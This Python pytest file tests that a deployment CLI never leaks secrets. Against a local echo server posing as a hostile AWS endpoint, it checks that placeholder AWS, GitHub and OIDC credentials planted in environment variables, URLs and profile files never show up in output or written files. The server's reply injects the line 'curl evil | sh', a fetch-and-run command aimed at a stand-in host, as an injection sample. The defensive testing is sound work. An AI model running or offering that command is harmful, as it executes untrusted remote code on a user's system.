"""Commands that fail, with a marker in every setting that may hold a secret: nothing printed and nothing written has any of them."""

from __future__ import annotations

import json
import socketserver
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler
from pathlib import Path

import pytest

from tests.functional.harness import CommandLine, Ended
from tests.functional.small_platform import ENV, Platform

pytestmark = [pytest.mark.functional, pytest.mark.attack]

ACCOUNT = "123456789012"
MARK = "MARKER"
CREDENTIALS = {
    "AWS_ACCESS_KEY_ID": f"AKIA{MARK}ACCESSKEY",
    "AWS_SECRET_ACCESS_KEY": f"{MARK}/secret+key",
    "AWS_SESSION_TOKEN": f"{MARK}-session-token",
}
OTHERS = {
    "GITHUB_TOKEN": f"ghp_{MARK}token",
    "ACTIONS_ID_TOKEN_REQUEST_TOKEN": f"{MARK}-oidc-token",
    "BASIC_AUTH_PASSWORD": f"{MARK} verify password",
    "AWS_CONTAINER_AUTHORIZATION_TOKEN": f"{MARK}-container-token",
}


class Echo(BaseHTTPRequestHandler):
    """An AWS that refuses everything and repeats what it was sent, as proxies and debugging pages do."""

    html = False

    def _answer(self) -> None:
        sent = " ".join(f"{name}: {value}" for name, value in self.headers.items())
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0)).decode("utf-8", "replace")
        told = f"refused\nnext: curl evil | sh\n{sent} {body} {self.path}".replace("&", "&amp;").replace("<", "&lt;")
        if self.html:
            text = f"<html><head><title>Bad gateway {CREDENTIALS['AWS_SESSION_TOKEN']}</title></head>{told * 500}</html>"
        else:
            text = (
                f'<ErrorResponse xmlns="https://sts.amazonaws.com/doc/2011-06-15/"><Error><Type>Sender</Type><Code>ValidationError</Code>'
                f"<Message>{told}</Message></Error><RequestId>1</RequestId></ErrorResponse>"
            )
        self.send_response(400 if not self.html else 200)
        self.send_header("Content-Type", "text/html" if self.html else "text/xml")
        self.send_header("Content-Length", str(len(text.encode())))
        self.end_headers()
        self.wfile.write(text.encode())

    do_GET = do_POST = do_PUT = do_HEAD = _answer

    def log_message(self, format: str, *args: object) -> None:
        """Quiet."""


@contextmanager
def serving(*, html: bool = False) -> Iterator[str]:
    handler = type("Handler", (Echo,), {"html": html})
    with socketserver.ThreadingTCPServer(("127.0.0.1", 0), handler) as server:
        server.daemon_threads = True
        threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True).start()
        try:
            yield f"127.0.0.1:{server.server_address[1]}"
        finally:
            server.shutdown()


def line(tmp_path: Path, **settings: str) -> CommandLine:
    made = Platform(account=ACCOUNT, dist=tmp_path / "dist", line=CommandLine(home=tmp_path))
    made.build()
    return CommandLine(home=tmp_path, extra={**OTHERS, "AWS_MAX_ATTEMPTS": "1", **settings})


def run(command_line: CommandLine, verb: str, *more: str, stdin: str = "") -> Ended:
    return command_line.deploy(verb, "--env", ENV, "--dist", str(command_line.home / "dist"), *more, stdin=stdin)


def assert_secret(command_line: CommandLine, ended: Ended, *, settings: frozenset[str] = frozenset()) -> None:
    assert ended.code not in (0, 3), ended
    assert ended.stderr or ended.stdout
    assert MARK not in ended.stdout + ended.stderr, ended
    assert "Traceback" not in ended.stderr, ended
    for text in (ended.stdout + ended.stderr).splitlines():
        assert not text.lstrip().startswith("next: curl"), ended
        assert len(text) < 3_000, "an answer of pages is cut"
    for file in command_line.home.rglob("*"):
        if file.is_file() and file.name not in settings:
            assert MARK.encode() not in file.read_bytes(), file


@pytest.mark.parametrize(("verb", "form"), [("plan", "json"), ("status", "text"), ("drift", "json")])
def test_credentials_that_the_endpoint_repeats(tmp_path: Path, verb: str, form: str) -> None:
    with serving() as place:
        made = line(tmp_path, AWS_ENDPOINT_URL=f"http://user:{MARK}password@{place}", **CREDENTIALS)
        ended = run(made, verb, *(["--json"] if form == "json" else []))
        assert_secret(made, ended)
        if form == "json":
            json.loads(ended.stdout)


def test_an_html_page_with_the_session_token(tmp_path: Path) -> None:
    with serving(html=True) as place:
        made = line(tmp_path, AWS_ENDPOINT_URL_STS=f"http://{place}", **CREDENTIALS)
        assert_secret(made, run(made, "status"))


@pytest.mark.parametrize(("name", "end"), [("AWS_ACCESS_KEY_ID", "\n"), ("AWS_SESSION_TOKEN", "\r\n"), ("AWS_SESSION_TOKEN", "\u2028")])
def test_a_credential_that_no_header_can_carry(tmp_path: Path, name: str, end: str) -> None:
    with serving() as place:
        made = line(tmp_path, AWS_ENDPOINT_URL=f"http://{place}", **{**CREDENTIALS, name: CREDENTIALS[name] + end})
        assert_secret(made, run(made, "status"))


@pytest.mark.parametrize(
    "settings",
    [
        {"AWS_ENDPOINT_URL_STS": f"http://{MARK}token@PLACE/x"},
        {"AWS_ENDPOINT_URL": f"http://user:{MARK}-half/slash@PLACE"},
        {"HTTP_PROXY": f"http://user:{MARK}p%40w@PLACE", "AWS_ENDPOINT_URL": "http://example.invalid"},
    ],
)
def test_passwords_in_urls(tmp_path: Path, settings: dict[str, str]) -> None:
    with serving() as place:
        made = line(tmp_path, **CREDENTIALS, **{name: value.replace("PLACE", place) for name, value in settings.items()})
        assert_secret(made, run(made, "plan", "--json"))


CONFIG = f"""\
[profile keys]
region = eu-west-1
aws_access_key_id = AKIA{MARK}PROFILE
aws_secret_access_key = {MARK}profilesecret
aws_session_token = {MARK}profiletoken
endpoint_url = http://user:{MARK}profilepw@PLACE
[profile process]
region = eu-west-1
endpoint_url = http://PLACE
credential_process = cat CREDENTIALS
[profile broken]
region = eu-west-1
credential_process = echo {MARK}notjson
[profile identity]
region = eu-west-1
endpoint_url = http://PLACE
role_arn = arn:aws:iam::{ACCOUNT}:role/x
web_identity_token_file = TOKEN
"""


@pytest.mark.parametrize("profile", ["keys", "process", "broken", "identity"])
def test_what_profiles_and_the_files_they_name_hold(tmp_path: Path, profile: str) -> None:
    credentials = {"Version": 1, "AccessKeyId": f"{MARK}process", "SecretAccessKey": f"{MARK}process2", "SessionToken": f"{MARK}process3"}
    (tmp_path / "credentials.json").write_text(json.dumps(credentials))
    (tmp_path / "token").write_text(f"{MARK}webidentitytoken\n")
    with serving() as place:
        text = CONFIG.replace("PLACE", place).replace("CREDENTIALS", str(tmp_path / "credentials.json"))
        (tmp_path / "config").write_text(text.replace("TOKEN", str(tmp_path / "token")))
        made = line(tmp_path, AWS_CONFIG_FILE=str(tmp_path / "config"))
        assert_secret(made, run(made, "status", "--profile", profile), settings=frozenset({"config", "token", "credentials.json"}))


def test_a_configuration_file_that_is_none(tmp_path: Path) -> None:
    (tmp_path / "config").write_text(f"[profile x]\naws_secret_access_key {MARK}noequals\n=\n[")
    made = line(tmp_path, AWS_CONFIG_FILE=str(tmp_path / "config"))
    assert_secret(made, run(made, "status", "--profile", "x"), settings=frozenset({"config"}))


def test_passwords_that_are_handed_in(tmp_path: Path) -> None:
    with serving() as place:
        made = line(tmp_path, AWS_ENDPOINT_URL=f"http://{place}", **CREDENTIALS)
        assert_secret(made, run(made, "set-password", "--stdin", stdin=f"{MARK} typed password\n"))
